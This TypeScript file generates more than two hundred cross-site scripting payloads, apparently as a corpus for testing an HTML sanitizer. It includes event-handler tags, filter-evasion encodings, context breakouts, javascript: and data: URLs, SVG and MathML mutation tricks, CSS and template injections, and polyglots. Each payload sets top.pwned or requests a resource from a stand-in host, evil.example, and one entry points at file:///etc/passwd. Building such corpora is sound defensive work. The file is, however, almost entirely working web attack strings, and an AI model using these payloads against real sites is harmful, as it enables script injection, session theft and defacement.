/**
 * Two hundred and more ways to have a text run as a script, or load something from elsewhere. Each sets `top.pwned` to its
 * own number, or asks `EVIL` for something; where both are seen, it worked.
 */

/** Nobody's (RFC 2606): a request to it is caught before it leaves. */
export const EVIL = 'https://evil.example';

type Make = (run: string) => string;

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const entities = (text: string): string => [...text].map((c) => `&#${String(c.codePointAt(0))};`).join('');
const hexEntities = (text: string): string => [...text].map((c) => `&#x${(c.codePointAt(0) ?? 0).toString(16)}`).join('');
const unicodeEscapes = (text: string): string =>
  [...text].map((c) => `\\u${(c.codePointAt(0) ?? 0).toString(16).padStart(4, '0')}`).join('');

/** Tags that run something by themselves, or when somebody touches them. */
const events: readonly Make[] = [
  ...['img', 'image', 'audio', 'video', 'object', 'embed', 'input type=image', 'link rel=stylesheet', 'script'].map(
    (tag): Make =>
      (run) =>
        `<${tag} src=x: href=x: data=x: onerror=${run}>`,
  ),
  ...['svg', 'body', 'iframe', 'style', 'frameset', 'link rel=icon href=/', 'math'].map(
    (tag): Make =>
      (run) =>
        `<${tag} onload=${run}>`,
  ),
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<marquee onstart=${run}>x</marquee>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}><option>x</select>`,
  (run) => `<textarea autofocus onfocus=${run}></textarea>`,
  (run) => `<x tabindex=1 autofocus onfocus=${run}>x</x>`,
  (run) => `<x contenteditable autofocus onfocusin=${run}>x`,
  (run) => `<a href=# onclick=${run}>x</a>`,
  (run) => `<button onclick=${run}>x</button>`,
  (run) => `<div onclick=${run} onpointerover=${run}>x</div>`,
  (run) => `<x style=animation-name:x onanimationend=${run}><style>@keyframes x{}</style>`,
  (run) => `<audio src onloadstart=${run}>`,
  (run) => `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  (run) => `<meter onclick=${run}>x</meter>`,
  (run) => `<x onbeforematch=${run} hidden=until-found>x</x>`,
];

/** How a tag may be written so that a filter does not see it. */
const disguises: readonly Make[] = [
  (run) => `<ImG sRc=x: OnErRoR=${run}>`,
  (run) => `<img/src=x:/onerror=${run}>`,
  (run) => `<img\tsrc=x:\tonerror=${run}>`,
  (run) => `<img\nsrc=x:\nonerror=${run}>`,
  (run) => `<img\fsrc=x:\fonerror=${run}\f>`,
  (run) => `<img src=x: onerror\n=\n${run}>`,
  (run) => `<img src=x: onerror="${run}" "`,
  (run) => `<img src=x: onerror='${run}' //`,
  (run) => `<img src=x: \`onerror=${run}>`,
  (run) => `<img src="x:"onerror="${run}">`,
  (run) => `<<img src=x: onerror=${run}>>`,
  (run) => `<img src=x: onerror=${entities(run)}>`,
  (run) => `<img src=x: onerror=${hexEntities(run)};>`,
  (run) => `<img src=x: onerror=${unicodeEscapes('top')}.${run.slice(4)}>`,
  (run) => `<img src=x: onerror=eval(atob('${base64(run)}'))>`,
  (run) => `<img src=x: onerror=Function(\`${run}\`)()>`,
  (run) => `<img src=x: onerror=[1].map(()=>{${run}})>`,
  (run) => `<img src=x: onerror=setTimeout('${run}')>`,
  (run) => `<img src=x: onerror=import('data:text/javascript,${run}')>`,
  (run) => `<script>${run}</script>`,
  (run) => `<script >${run}</script >`,
  (run) => `<script/x>${run}</script/x>`,
  (run) => `<SCRIPT>${run}</SCRIPT>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<script src=data:text/javascript,${run}></script>`,
  (run) => `<script src=//evil.example/${run}></script>`,
  (run) => `<script type=module>${run}</script>`,
  (run) => `<script><!--\n${run}\n--></script>`,
  (run) => `&lt;img src=x: onerror=${run}&gt;`,
  (run) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
  (run) => `%3Cimg%20src%3Dx:%20onerror%3D${run}%3E`,
  (run) => `\\u003cimg src=x: onerror=${run}\\u003e`,
  (run) => `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  (run) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  (run) => `＜img src=x: onerror=${run}＞`,
  (run) => `<img src=x: onerror\u2028=${run}>`,
  (run) => `<\u200bimg src=x: onerror=${run}>`,
  (run) => `<img\u00a0src=x: onerror=${run}>`,
  (run) => `\ufeff<img src=x: onerror=${run}>`,
  (run) => `\u202e<img src=x: onerror=${run}>\u202c`,
  (run) => `<i\u0307mg src=x: onerror=${run}>`,
  (run) => `<ſcript>${run}</ſcript>`,
];

/** Texts that break out of the place where they were put. */
const breakouts: readonly Make[] = [
  '">',
  "'>",
  '`>',
  '-->',
  ']]>',
  '*/',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</text></svg>',
  '</tspan>',
  '</foreignObject>',
  '</template>',
  '</option></select>',
  '</iframe>',
  '</xmp>',
  '</button></h1>',
  '</p></div></aside>',
].map(
  (end): Make =>
    (run) =>
      `${end}<img src=x: onerror=${run}>`,
);

const intoAttributes: readonly Make[] = [
  (run) => `" autofocus onfocus="${run}`,
  (run) => `' autofocus onfocus='${run}`,
  (run) => `x onerror=${run} src=x:`,
  (run) => `" style="animation-name:x" onanimationstart="${run}`,
  (run) => `" srcdoc="<script>${run}</script>`,
  (run) => `"/><script>${run}</script>`,
];

const intoScripts: readonly Make[] = [
  (run) => `';${run};//`,
  (run) => `";${run};//`,
  (run) => `\`;${run};//`,
  (run) => `\\';${run};//`,
  (run) => `'-(${run})-'`,
  (run) => `"+(${run})+"`,
  (run) => `</script><script>${run}</script>`,
  (run) => `\u2028${run}\u2029`,
  (run) => `{"__proto__":{"html":"<img src=x: onerror=${run}>"}}`,
  (run) => `__proto__[innerHTML]=<img src=x: onerror=${run}>`,
];

/** Addresses, each bare and where one would be followed. */
const addresses: readonly Make[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `java\nscript:${run}`,
  (run) => `\u0001javascript:${run}`,
  (run) => ` javascript:${run}`,
  (run) => `javascript&colon;${run}`,
  (run) => `javascript://%0a${run}`,
  (run) => `javascript:void(${run})`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `data:text/html;base64,${base64(`<script>${run}</script>`)}`,
  (run) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  (run) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${run}</script>`,
  (run) => `vbscript:${run}`,
  (run) => `${EVIL}/b/AAAAAAAAAAAAAAAAAAAAAA?${run}`,
  (run) => `//evil.example/b/AAAAAAAAAAAAAAAAAAAAAA?${run}`,
  (run) => `\\\\evil.example\\b\\AAAAAAAAAAAAAAAAAAAAAA?${run}`,
  (run) => `/\\evil.example/?${run}`,
  (run) => `/b/../../evil?${run}`,
  (run) => `file:///etc/passwd#${run}`,
];

const followed: readonly Make[] = [
  ...addresses
    .slice(0, 12)
    .filter((_, i) => i % 2 === 0)
    .flatMap((address): Make[] => [(run) => `<a href="${address(run)}">x</a>`, (run) => `<iframe src="${address(run)}"></iframe>`]),
  (run) => `<form action="javascript:${run}"><button>x</button></form>`,
  (run) => `<form><button formaction="javascript:${run}">x</button></form>`,
  (run) => `<object data="javascript:${run}"></object>`,
  (run) => `<embed src="data:text/html,<script>${run}</script>">`,
  (run) => `<base href="javascript:${run};//"><a href=x>x</a>`,
  (run) => `<base href="${EVIL}/"><img src="${run}">`,
  (run) => `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  (run) => `<link rel=stylesheet href="${EVIL}/${run}.css">`,
  (run) => `<link rel=preload as=image href="${EVIL}/${run}.png">`,
  (run) => `<img src="${EVIL}/${run}.png">`,
  (run) => `<img srcset="${EVIL}/${run}.png 1x">`,
  (run) => `<video poster="${EVIL}/${run}.png"></video>`,
  (run) => `<body background="${EVIL}/${run}.png">`,
  (run) => `![x](${EVIL}/${run}.png)`,
  (run) => `[x](javascript:${run})`,
];

const svg: readonly Make[] = [
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`,
  (run) => `<svg><script>${entities(run)}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<svg><set onbegin=${run} attributeName=x></svg>`,
  (run) => `<svg><a href="javascript:${run}"><text x=9 y=9>x</text></a></svg>`,
  (run) => `<svg><a><animate attributeName=href values="javascript:${run}"/><text x=9 y=9>x</text></a></svg>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  (run) => `<svg><image href="x:" onerror=${run} /></svg>`,
  (run) => `<svg><image href="${EVIL}/${run}.png"/></svg>`,
  (run) => `<svg><foreignObject><img src=x: onerror=${run} /></foreignObject></svg>`,
  (run) => `<svg><style>@import '${EVIL}/${run}.css';</style></svg>`,
  (run) => `<svg><style><img src=x: onerror=${run}></style></svg>`,
  (run) => `<svg><filter id=f><feImage href="${EVIL}/${run}.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  (run) => `<svg><title><img src=x: onerror=${run}></title></svg>`,
  (run) => `<svg><desc><script>${run}</script></desc></svg>`,
  (run) => `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "<script>${run}</script>">]><svg>&e;</svg>`,
  (run) => `<?xml-stylesheet href="${EVIL}/${run}.xsl" type="text/xsl"?><svg/>`,
];

const mathAndMutations: readonly Make[] = [
  (run) => `<math href="javascript:${run}"><mi>x</mi></math>`,
  (run) => `<math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
  (run) => `<math><annotation-xml encoding=text/html><img src=x: onerror=${run}></annotation-xml></math>`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${run}&gt;">`,
  (run) => `<svg></p><style><a id="</style><img src=x: onerror=${run}>">`,
  (run) => `<noscript><p title="</noscript><img src=x: onerror=${run}>">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${run}>`,
  (run) => `<template><img src=x: onerror=${run}></template>`,
  (run) => `<div><template shadowrootmode=open><img src=x: onerror=${run}></template></div>`,
  (run) => `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  (run) => `<iframe srcdoc="&lt;img src=x: onerror=${run}&gt;" sandbox="allow-scripts"></iframe>`,
  (run) => `<xmp><img src=x: onerror=${run}></xmp>`,
  (run) => `<plaintext><img src=x: onerror=${run}>`,
  (run) => `<!--><img src=x: onerror=${run}>-->`,
  (run) => `<!--!><img src=x: onerror=${run}>-->`,
  (run) => `<![CDATA[><img src=x: onerror=${run}>]]>`,
];

const css: readonly Make[] = [
  (run) => `<style>@import '${EVIL}/${run}.css';</style>`,
  (run) => `<style>*{background:url(${EVIL}/${run}.png)}</style>`,
  (run) => `<style>@font-face{font-family:x;src:url(${EVIL}/${run}.woff)}*{font-family:x}</style>`,
  (run) => `<div style="background:url('${EVIL}/${run}.png')">x</div>`,
  (run) => `<div style="width:expression(${run})">x</div>`,
  (run) => `<div style="background:url(javascript:${run})">x</div>`,
  (run) => `red;background:url(${EVIL}/${run}.png)`,
  (run) => `url(${EVIL}/${run}.png)`,
  (run) => `"}*{background:url(${EVIL}/${run}.png)}`,
];

const templates: readonly Make[] = [
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `{{$on.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `<%= ${run} %>`,
  (run) => `#{${run}}`,
  (run) => `{@html '<img src=x: onerror=${run}>'}`,
  (run) => `{#if ${run}}{/if}`,
  (run) => `<div ng-app ng-init="${run}">x</div>`,
  (run) => `<div v-html="'<img src=x: onerror=${run}>'">x</div>`,
  (run) => `<div x-data x-init="${run}">x</div>`,
];

const polyglots: readonly Make[] = [
  (run) => `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
  (run) => `'"()&%<zzz><img src=x: onerror=${run}>`,
  (run) => `';${run}//';${run}//";${run}//--></script>">'><script>${run}</script>`,
  (run) => `" onclick=${run}//<button ' onclick=${run}//> */ ${run}//`,
  (run) => `<!--<img src="--><img src=x: onerror=${run}//">`,
  (run) => `{"a":"</script><img src=x: onerror=${run}>"}`,
];

const all = [
  events,
  disguises,
  breakouts,
  intoAttributes,
  intoScripts,
  addresses,
  followed,
  svg,
  mathAndMutations,
  css,
  templates,
  polyglots,
].flat();

/** Distinct; the number that each sets is its place here. */
export const payloads: readonly string[] = all.map((make, i) => make(`top.pwned=${i}`));
